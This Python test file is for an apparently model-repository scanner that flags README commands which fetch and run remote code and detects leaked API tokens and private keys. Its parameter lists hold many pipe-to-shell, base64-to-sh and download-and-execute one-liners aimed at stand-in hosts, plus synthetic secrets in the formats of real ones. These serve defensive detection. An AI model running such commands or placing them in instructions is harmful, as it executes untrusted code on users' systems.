"""What people are told to run, and secrets: found by form, and silent on what model cards ordinarily say."""

from __future__ import annotations

import json
import random
import string
import tempfile
import zlib
from pathlib import Path

import pytest
from fuzzing import effort
from hypothesis import given
from hypothesis import strategies as st
from repository_builder import findings, look, safetensors, write

from aiverify.formats.interface import Format, FormatError, state_of
from aiverify.repository.instructions import instructions
from aiverify.repository.secrets import found_in
from aiverify.repository.subject import Part, Repository

CARD = """---
license: apache-2.0
library_name: transformers
---
# A model

```bash
pip install transformers accelerate
python run.py --model org/name
curl https://api.example.org/v1/chat -H "Authorization: Bearer $HF_TOKEN" | jq .
huggingface-cli download org/name
```
Set `HF_TOKEN=hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx` and `OPENAI_API_KEY=sk-...`.
"""


def rules(found: list[tuple[str, str, str | None]]) -> list[tuple[str, str]]:
    return [(rule, severity) for rule, severity, _ in found]


def test_a_text_in_another_state_than_was_meant_is_not_read(tmp_path: Path) -> None:
    place = tmp_path / "config.json"
    place.write_text("{}")
    part = Part(path=place.name, location=place, size=2, format=Format.JSON, state=state_of(place.stat()))
    assert part.read() == b"{}"
    (tmp_path / "other").write_text("[]")
    (tmp_path / "other").replace(place)
    with pytest.raises(FormatError, match="changed"):
        part.read()


def test_an_ordinary_model_card_is_silent(tmp_path: Path) -> None:
    assert look(tmp_path, {"README.md": CARD}) == []


@pytest.mark.parametrize(
    ("command", "severity"),
    [
        ("curl -fsSL https://x.example/a.sh | sh", "medium"),
        ("wget -qO- https://x.example/a.sh \\\n  | sudo -E bash -", "medium"),
        ('bash -c "$(curl -fsSL https://x.example/a)"', "medium"),
        ("bash <(curl -s https://x.example/a)", "medium"),
        ("irm https://x.example/a.ps1 | iex", "medium"),
        ("echo aGk= | base64 -d | sh", "medium"),
        ("pip install git+https://x.example/a.git", "low"),
        ("pip install git+https://github.com/huggingface/transformers", "info"),
        ("curl -LO https://x.example/a/get.sh?v=1\nbash get.sh", "medium"),
        ("wget https://x.example/tool -O /tmp/t && chmod +x /tmp/t", "medium"),
        ("curl https://x.example/a > ~/b.py; python3 ~/b.py", "medium"),
        ("python loader.py --fast", "medium"),
        ("pip install -e .[dev]", "medium"),
        ("torchrun --nproc_per_node=8 -m plain.py", "low"),
        ("".join(f"./{number}.sh\n" for number in range(50)) + "./setup.sh", "medium"),
        ("./setup.sh", "medium"),
        ("start loader.bat", "medium"),
        ("python3 -m package.tool --fast", "medium"),
        ("python package", "medium"),
        ("python3 program", "medium"),
        ("bash setup", "medium"),
        ("sudo sh -x ./setup", "medium"),
        ("node --trace server", "medium"),
        ("pip install ./package", "medium"),
        ("pip install --user package/", "medium"),
        ("pip install ./tool-1.0.tar.gz", "medium"),
        ("curl -s https://x.example/a | python3 -", "medium"),
        ("curl -s https://x.example/a | bash -c 'json.load'", "medium"),
        ("curl -s https://x.example/a | python3.11 -c 'import os, json; os.system(json.load(x))'", "medium"),
        ("curl -fsSL https://ollama.com/install.sh | sh\ncurl https://x.example/a | sh", "medium"),
        ("curl -fsSL https://x.example/a https://ollama.com/install.sh | sh", "medium"),
        ("curl -fsSL https://ollama.com/install.sh.x.example/a | sh", "medium"),
        ("curl -fsSL https://ollama.com/install.sh | sh", "low"),
        ("curl -LsSf https://astral.sh/uv/install.sh | sh", "low"),
        ("curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh", "low"),
    ],
)
def test_commands_that_fetch_or_run_a_program_are_found(tmp_path: Path, command: str, severity: str) -> None:
    files = {"README.md": f"# Use\n```\n{command}\n```\n", "setup.sh": "echo\n", "loader.bat": "echo\n"}
    files |= {"setup.py": "import os\nos.system('x')\n"}
    files |= dict.fromkeys(("program", "package/__main__.py", "package/tool.py", "package/setup.py"), files["setup.py"])
    files |= {"setup": "echo\n", "server": "x()\n", "tool-1.0.tar.gz": "x"}
    files |= {"loader.py": "import subprocess\ndef main(): subprocess.run(['id'])\n", "plain.py": "x = 1\n"}
    assert ("AIV507", severity, "README.md") in look(tmp_path, files)


def test_a_command_on_a_file_that_is_not_there_is_silent(tmp_path: Path) -> None:
    assert look(tmp_path, {"README.md": "run ./build.sh\n"}) == []


@pytest.mark.parametrize(
    "command",
    [
        "wget https://x.example/cat.jpg\npython demo.py --image cat.jpg",
        "curl https://x.example/v1/chat -o answer.json\ncat answer.json",
        "wget https://x.example/model.gguf\n./llama-cli -m model.gguf",
        "curl http://localhost:8000/v1/models | python3 -m json.tool",
        "curl -s http://localhost:8000/v1/chat | python3.11 -c 'import json, sys; print(json.load(sys.stdin))'",
    ],
)
def test_what_is_fetched_and_only_read_is_silent(tmp_path: Path, command: str) -> None:
    assert look(tmp_path, {"README.md": command}) == []


def test_the_language_of_a_listing_and_prose_ask_for_nothing(tmp_path: Path) -> None:
    card = "```python\nmodel = load()\n```\n```bash\ncode\n```\nRun the python code of the python model.\n"
    files = {"README.md": card, "model.py": "import os\n", "code.py": "import os\n"}
    assert not [item for item in look(tmp_path, files) if item[0] == "AIV507"]


@pytest.mark.parametrize("name", ["README.md", "notes.rst", "README", "a.ipynb"])
def test_a_long_text_is_searched_and_a_longer_one_said_to_be_too_long(tmp_path: Path, name: str) -> None:
    command = "curl https://x.example/a | sh\n"
    front = "pad\n" * 400_000
    text = notebook(front + "!" + command) if name.endswith(".ipynb") else front + command
    assert len(text) > 1 << 20
    assert ("AIV507", "medium", name) in look(tmp_path / "long", {name: text})
    (found,) = findings(write(tmp_path / "longer", {name: text + " " * (16 << 20)}))
    assert (found.rule, "was not searched" in found.message) == ("AIV507", True)


def notebook(*cells: str) -> str:
    return json.dumps({"cells": [{"cell_type": "code", "source": cell.splitlines(True)} for cell in cells]})


def test_the_code_of_a_notebook_is_summarised(tmp_path: Path) -> None:
    quiet = look(tmp_path / "a", {"use.ipynb": notebook("import torch\n%matplotlib inline\n!pip install torch\n")})
    assert rules(quiet) == [("AIV507", "info")]
    loud = look(
        tmp_path / "b", {"use.ipynb": notebook("import os\nos.system('x')\n", "!curl http://x.example/a | sh\n")}
    )
    assert rules(loud) == [("AIV507", "medium"), ("AIV507", "low")]


def token(seed: int, length: int, alphabet: str = string.ascii_letters) -> str:
    return "".join(random.Random(seed).choices(alphabet, k=length))


def checked(prefix: str) -> str:
    body = token(7, 30)
    number, digits = zlib.crc32(body.encode()), ""
    alphabet = string.digits + string.ascii_uppercase + string.ascii_lowercase
    while number:
        number, digit = divmod(number, 62)
        digits = alphabet[digit] + digits
    return prefix + body + digits.rjust(6, "0")


def key() -> str:
    line = token(5, 64)
    return f"-----BEGIN {'RSA '}PRIVATE KEY-----\n{line}\n{line[::-1]}\n"


SECRETS = [
    "hf_" + token(1, 34),
    checked("ghp_"),
    checked("npm_"),
    "AKIA" + token(2, 16, string.ascii_uppercase + "234567"),
    "AIza" + token(3, 35),
    "sk-proj-" + token(4, 40) + "T3BlbkFJ" + token(6, 40),
    key(),
]


@pytest.mark.parametrize("secret", SECRETS, ids=lambda secret: secret[:6])
def test_a_secret_is_found_and_not_shown(tmp_path: Path, secret: str) -> None:
    found = findings(
        write(tmp_path, {"train.py": f"x = 1\nkey = '''{secret}'''\n", "m.safetensors": safetensors(["a"])})
    )
    (said,) = [item for item in found if item.rule == "AIV508"]
    assert (said.file, said.severity, said.evidence["line"]) == ("train.py", "low", 2)
    assert secret[8:24] not in str(said)


@pytest.mark.parametrize(
    "text",
    [
        "ghp_" + token(1, 36),  # the checksum is wrong
        "hf_" + "a" * 34,
        "hf_ThisIsAnExampleTokenForTheReadme" + "ab",
        "AKIAIOSFODNN7EXAMPLE",
        "-----BEGIN PRIVATE KEY-----\n...\n",
        "x" + SECRETS[0],
        SECRETS[0] + "x",
        "sha256: " + "0123456789abcdef" * 4,
    ],
)
def test_what_only_looks_like_a_secret_is_silent(text: str) -> None:
    assert list(found_in(text)) == []


PIECES = st.sampled_from(
    [
        *(
            "curl ",
            "wget -qO- ",
            "https://x.example/a.sh",
            " | ",
            "sh",
            "sudo ",
            "bash <(",
            ")",
            "`",
            "$(",
            "base64 -d ",
        ),
        *(
            "pip install ",
            "git+https://x.example/a.git",
            "./setup.sh",
            "\n",
            "\\\n",
            "```",
            "# ",
            "x",
            "é",
            "\0",
            "\u2028",
        ),
    ]
)


@effort(100)
@given(st.lists(PIECES, max_size=12), st.lists(PIECES, max_size=4))
def test_what_stands_around_a_command_hides_it_from_nobody(before: list[str], after: list[str]) -> None:
    text = "".join(before) + "\ncurl https://x.example/a.sh | sh\n" + "".join(after)
    with tempfile.TemporaryDirectory() as folder:
        location = Path(folder, "README.md")
        location.write_bytes(text.encode())
        part = Part(path="README.md", location=location, size=location.stat().st_size, format=Format.TEXT)
        found = list(instructions(Repository(parts={"README.md": part, "setup.sh": part})))
    assert [item.severity.value for item in found if "fetch a program" in item.message] in (["medium"], ["medium"] * 2)
    assert {item.rule for item in found} == {"AIV507"}


@given(st.text(max_size=2000))
def test_any_text_can_be_searched(text: str) -> None:
    list(found_in(text))
